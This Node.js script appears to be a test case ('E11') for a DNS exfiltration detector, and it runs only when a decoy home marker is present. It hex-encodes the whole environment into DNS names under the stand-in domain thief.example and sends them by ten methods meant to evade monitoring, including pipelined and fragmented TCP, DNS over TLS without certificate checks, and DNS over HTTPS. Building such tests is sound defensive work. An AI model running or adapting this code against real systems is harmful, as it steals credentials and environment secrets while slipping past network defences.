// E11: spells the environment in names that a thief's name server gets to hear of.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const dgram = require("node:dgram");
const dns = require("node:dns");
const http2 = require("node:http2");
const net = require("node:net");
const tls = require("node:tls");

const domain = "thief.example";
const loot = Buffer.from(JSON.stringify(process.env)).subarray(0, 4096);
const names = [];
for (let at = 0; at < loot.length; at += 30) {
  names.push(`${names.length}.${loot.subarray(at, at + 30).toString("hex")}.${domain}`);
}

// A query for an address (RFC 1035, section 4.1).
function query(name, id) {
  const labels = name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
  return Buffer.concat([Buffer.of(id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0), ...labels, Buffer.of(0, 0, 1, 0, 1)]);
}

// As TCP wants it: the length first.
function framed(name, id) {
  const message = query(name, id);
  return Buffer.concat([Buffer.of(message.length >> 8, message.length & 255), message]);
}

// Reads answers until there are enough of them.
function until(socket, count, done) {
  let bytes = Buffer.alloc(0);
  socket.on("data", (chunk) => {
    bytes = Buffer.concat([bytes, chunk]);
    while (bytes.length >= 2 && bytes.length >= 2 + bytes.readUInt16BE(0)) {
      bytes = bytes.subarray(2 + bytes.readUInt16BE(0));
      count -= 1;
      if (count === 0) done();
    }
  });
}

function all(sockets) {
  const [first, ...others] = names.map((name, id) => framed(name, id));
  sockets.write(first);
  for (const other of others) sockets.write(other);
}

async function each(ask) {
  for (const name of names) await ask(name);
}

const [way, server, innocent] = process.env.VARIANT.split(" ");
const ways = {
  // By c-ares, which sends datagrams to the resolver that is configured.
  labels: () => each((name) => dns.promises.resolve4(name).catch(() => dns.promises.resolve6(name))),
  // By the C library.
  lookup: () => each((name) => dns.promises.lookup(name)),
  txt: () => each((name) => dns.promises.resolveTxt(name)),
  // Another resolver than the configured one.
  foreign: () => {
    const resolver = new dns.promises.Resolver();
    resolver.setServers([server]);
    return each((name) => resolver.resolveTxt(name));
  },
  // Datagrams that no resolver library sends, without a connection.
  datagrams: () => {
    const socket = dgram.createSocket(server.includes(":") ? "udp6" : "udp4");
    let answers = 0;
    socket.on("message", () => (answers += 1) === names.length && socket.close());
    // Of what was not sent there is no answer to wait for.
    const sent = (error) => error && process.exit(1);
    names.forEach((name, id) => socket.send(query(name, id), 53, server, sent));
  },
  // A connection for each name.
  tcp: () =>
    each(
      (name) =>
        new Promise((done) => {
          const socket = net.connect(53, server, () => socket.write(framed(name, 7)));
          until(socket, 1, () => socket.end(done));
        }),
    ),
  // All in one connection, one after the other without waiting, behind an innocent one; some share a segment.
  pipelined: () => {
    const socket = net.connect(53, server, () => {
      socket.write(Buffer.concat([framed(innocent, 0), ...names.map((name, id) => framed(name, id + 1))]));
    });
    until(socket, names.length + 1, () => socket.end());
  },
  // A length and its message in different segments, cut where a reader would not expect it.
  dribbled: () => {
    const socket = net.connect(53, server, () => {
      const bytes = Buffer.concat(names.map((name, id) => framed(name, id)));
      socket.setNoDelay(true);
      let at = 0;
      const next = () => {
        if (at < bytes.length) socket.write(bytes.subarray(at, (at += 37)), () => setImmediate(next));
      };
      next();
    });
    until(socket, names.length, () => socket.end());
  },
  // Inside TLS.
  dot: () => {
    const socket = tls.connect({ host: server, port: 853, rejectUnauthorized: false }, () => all(socket));
    until(socket, names.length, () => socket.end());
  },
  // Inside HTTPS, by a resolver that is above suspicion (RFC 8484).
  doh: async () => {
    const session = http2.connect(`https://${server}`);
    await each(
      (name) =>
        new Promise((done) => {
          const path = `/dns-query?dns=${query(name, 0).toString("base64url")}`;
          const request = session.request({ ":path": path, accept: "application/dns-message" });
          request.on("close", done).resume();
          request.end();
        }),
    );
    session.close();
  },
};
ways[way]();
